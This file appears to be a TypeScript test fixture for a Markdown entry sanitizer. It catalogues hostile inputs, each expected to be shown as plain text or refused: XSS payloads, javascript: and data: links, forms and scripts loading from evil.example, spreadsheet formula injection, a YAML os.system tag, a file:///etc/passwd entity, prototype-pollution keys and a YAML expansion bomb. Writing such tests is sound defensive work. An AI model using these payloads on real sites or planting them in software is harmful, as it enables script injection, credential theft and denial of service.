/**
 * What strangers could write into an entry. `ran()` tells the test that something ran. The same words go into every field of
 * an entry; as the Markdown below them they are shown as words ('shown'), or refused with the code of a mistake.
 */
export interface Attack {
  readonly name: string;
  readonly words: string;
  readonly body: 'shown' | 'raw-html' | 'link' | 'picture';
}

const RUN = 'ran()';

const HTML = {
  'a script': `<script>${RUN}</script>`,
  'a script in capitals': `<SCRIPT>${RUN}</SCRIPT>`,
  'a script with a slash for a space': `<script/x>${RUN}</script>`,
  'a script from elsewhere': '<script src=//evil.example/x.js></script>',
  'a module': '<script type=module>import "//evil.example/x.js"</script>',
  'the end of a script, and one of its own': `</script><script>${RUN}</script>`,
  'the end of a script in capitals': `</SCRIPT ><img src=x onerror=${RUN}>`,
  'the end of a style': `</style><img src=x onerror=${RUN}>`,
  'the end of a title': `</title><svg onload=${RUN}>`,
  'the end of a text area': `</textarea><img src=x onerror=${RUN}>`,
  'the end of a noscript': `</noscript><img src=x onerror=${RUN}>`,
  'the end of a template': `</template><img src=x onerror=${RUN}>`,
  'a picture that fails': `<img src=x onerror=${RUN}>`,
  'a picture with its handler first': `<img onerror="${RUN}" src=x>`,
  'a drawing that loads': `<svg onload=${RUN}>`,
  'a drawing with a script': `<svg><script>${RUN}</script></svg>`,
  'a drawing that moves': `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  'a formula that becomes a picture': `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  'a frame': `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  'a frame with code for an address': `<iframe src="javascript:parent.${RUN}"></iframe>`,
  'an object': `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  'an embedded file': '<embed src=//evil.example/x.svg>',
  'a base for every link': '<base href=//evil.example/>',
  'a page that moves on': '<meta http-equiv=refresh content="0;url=//evil.example/">',
  'a weaker policy': '<meta http-equiv=content-security-policy content="script-src *">',
  'a form that asks for a password': '<form action=//evil.example/><input name=password autofocus>',
  'a button that sends elsewhere': '<button formaction=//evil.example/>Get help</button>',
  'a style that asks elsewhere': '<style>*{background:url(//evil.example/x)}</style>',
  'a sheet from elsewhere': '<link rel=stylesheet href=//evil.example/x.css>',
  'a cover over the page': '<div style="position:fixed;inset:0">Call 1-900</div>',
  'a video': `<video><source onerror=${RUN}></video>`,
  'details that open': `<details open ontoggle=${RUN}>`,
  'a field that takes the focus': `<input onfocus=${RUN} autofocus>`,
  'a body': `<body onload=${RUN}>`,
  'a line that scrolls': `<marquee onstart=${RUN}>Help</marquee>`,
  'CDATA of XML': `]]><![CDATA[<script>${RUN}</script>`,
  'a declaration of XML': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
  'a comment that never ends': `<!-- <script>${RUN}`,
  'a form element named as a method': '<form><input name=getElementById></form>',
} as const;

const SHOWN = {
  'the end of an attribute': `" onmouseover="${RUN}" x="`,
  'the end of an attribute in single quotes': `' autofocus onfocus='${RUN}' x='`,
  'a tag that never ends': `<img src=x onerror=${RUN}//`,
  'a tag with a space first': `< script>${RUN}</ script>`,
  'a tag as entities': `&lt;script&gt;${RUN}&lt;/script&gt;`,
  'a tag as numbers': `&#60;img src=x onerror=${RUN}&#62;`,
  'entities of entities': `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  'wide brackets': `＜script＞${RUN}＜/script＞`,
  'a template of JavaScript': '${' + RUN + '}',
  'a template of a framework': `{{constructor.constructor("${RUN}")()}}`,
  'a place in braces': '{name} {count} {constructor} {__proto__}',
  'the end of a text in a script': `\\";${RUN};//`,
  'the end of a text in single quotes': `';${RUN};//`,
  'a line break of JavaScript': `one\u2028${RUN}\u2029two`,
  'a code fence': '```\n<script>' + RUN + '</script>\n```',
  'code in a line': '`<img src=x onerror=' + RUN + '>`',
  'a heading with attributes': `## Help {onclick=${RUN}}`,
  'a link in a link': `[a [b](https://b.example) c](https://c.example "' onclick='${RUN}")`,
  'a title of a link with a handler': `[a](https://a.example '" onclick="${RUN}')`,
  'an address with a handler': `https://a.example/"onmouseover="${RUN}`,
  'another company’s host in other letters': 'https://pаypal.example/ раураl',
  'a host without a scheme': '//evil.example/x',
  'letters that nobody sees': 'Free\u200B food\u200D\u2060 here\uFEFF now',
  'marks without end': `Food${'\u0301'.repeat(60)}`,
  'the right-to-left mark and isolates': 'Food \u200F\u2067now\u2069',
  'an entity of XML': '&xxe; %xxe; &#x26;',
  'a name of a prototype': '__proto__',
  'a constructor': 'constructor',
  'a formula': '=HYPERLINK("https://evil.example/?"&A1,"Food")',
  'a formula with a plus': "+cmd|' /C calc'!A0",
  'a formula with a minus': '-2+3+cmd|x!A0',
  'a formula with an at': '@SUM(1+1)*cmd|x!A0',
  'a formula after a tab': '\t=1+1',
  'a formula after a line end': '\r\n=1+1',
  'a formula in quotes': '"=1+1"',
  'a new property of a calendar': 'Food\r\nATTENDEE:mailto:a@evil.example\r\nX:y',
  'the end of an event': 'Food\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:Other',
  'a new property of a card': 'Food\r\nTEL:1-900-555-0100',
  'signs that calendars escape': 'Food; drink, \\n tea: \\, "milk"',
  'a header of its own': 'Food\r\nSet-Cookie: a=b\r\n\r\nmore',
  'control characters': 'Food\u0007\u001B[31m\u0085 here',
  'a link of a PDF': `) >> /A << /S /JavaScript /JS (${RUN}) >> (`,
  'quotes in quotes': `${'> '.repeat(50)}Food`,
  'brackets without end': `Food ${'['.repeat(100)}`,
  'stars without end': `Food ${'*a_'.repeat(33)}`,
} as const;

/** Read by check as links or pictures, wherever they stand in Markdown. */
const LINKS = {
  'a reference that is code': `[a][b]\n\n[b]: javascript:${RUN}`,
  'code for an address': `[a](javascript:${RUN})`,
  'code in capitals': `[a](JaVaScRiPt:${RUN})`,
  'code with an entity': `[a](java&#115;cript:${RUN})`,
  'code with a colon as an entity': `[a](javascript&colon;${RUN})`,
  'code after a tab': `[a](java&Tab;script:${RUN})`,
  'code after a line end': `[a](java&NewLine;script:${RUN})`,
  'code after a control character': `[a](&#1;javascript:${RUN})`,
  'code as percents': `[a](javascript%3A${RUN})`,
  'code between angles': `<javascript:${RUN}>`,
  'code in brackets with angles': `[a](<javascript:${RUN}>)`,
  'code of Visual Basic': `[a](vbscript:${RUN})`,
  'a page for an address': `[a](data:text/html,<script>${RUN}</script>)`,
  'a page as base64': '[a](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)',
  'a file of the computer': '[a](file:///etc/passwd)',
  'the view of a source': '[a](view-source:javascript:ran())',
} as const;

const PICTURES = {
  'a picture with code for an address': `![a](javascript:${RUN})`,
  'a picture from elsewhere': '![a](https://evil.example/x.png)',
  'a picture that is a page': `![a](data:image/svg+xml,%3Csvg%20onload=${RUN}%3E)`,
} as const;

export const ATTACKS: readonly Attack[] = [
  ...listed(HTML, 'raw-html'),
  ...listed(SHOWN, 'shown'),
  ...listed(LINKS, 'link'),
  ...listed(PICTURES, 'picture'),
];

/** What makes a file no entry at all: the block of facts of a page, and the code of the mistake. */
export const FILE_ATTACKS: readonly (readonly [name: string, facts: string, code: string])[] = [
  ['a key of the prototype', 'title: A\nsummary: B\n__proto__: { polluted: yes }', 'unknown-key'],
  ['a constructor as a key', 'title: A\nsummary: B\nconstructor: { polluted: yes }', 'unknown-key'],
  [
    'a tag that makes a function',
    `title: !!js/function "function () { ${RUN} }"\nsummary: B`,
    'yaml',
  ],
  ['a tag of Python', 'title: !!python/object/apply:os.system ["id"]\nsummary: B', 'yaml'],
  ['texts that repeat each other', `${bomb()}\ntitle: A\nsummary: *i`, 'yaml'],
  ['a list that holds itself', 'title: &a [*a]\nsummary: B', 'yaml'],
  ['lists in lists', `title: ${'['.repeat(2000)}${']'.repeat(2000)}\nsummary: B`, 'yaml'],
  ['one key twice', 'title: A\ntitle: B\nsummary: C', 'yaml'],
  ['a number for words', 'title: 1e400\nsummary: B', 'value'],
  ['a map for words', 'title: { toString: ran }\nsummary: B', 'value'],
  ['words that run backwards', 'title: "Call \u202E0010-555"\nsummary: B', 'turned-words'],
  ['the same as an escape', 'title: "Call \\u202E0010-555"\nsummary: B', 'turned-words'],
  ['the same as an entity', 'title: A\nsummary: B\n---\nCall &#x202E;0010-555', 'turned-words'],
];

/** Addresses of an own page: what is shown as it stands, and what is refused. */
export const ADDRESS_ATTACKS: readonly (readonly [address: string, code?: string])[] = [
  [`javascript:${RUN}`, 'value'],
  [`JAVASCRIPT:${RUN}`, 'value'],
  [` java\tscript:${RUN}`, 'value'],
  [`data:text/html,<script>${RUN}</script>`, 'value'],
  [`vbscript:${RUN}`, 'value'],
  ['//evil.example/', 'value'],
  [`https://a.example/"onmouseover="${RUN}`],
  [`https://a.example/?<script>${RUN}</script>`],
  [`https://a.example/#'onclick='${RUN}`],
  [`https://a.example/=1+1\\,;:`],
];

function listed(words: Readonly<Record<string, string>>, body: Attack['body']): Attack[] {
  return Object.entries(words).map(([name, text]) => ({ name, words: text, body }));
}

/** Each text is nine of the one before it. */
function bomb(): string {
  const names = ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i'];
  return names
    .map((name, at) => {
      const before = `*${names[at - 1] ?? ''}`;
      return `${name}: &${name} ${at === 0 ? 'x' : `[${Array.from({ length: 9 }, () => before).join()}]`}`;
    })
    .join('\n');
}
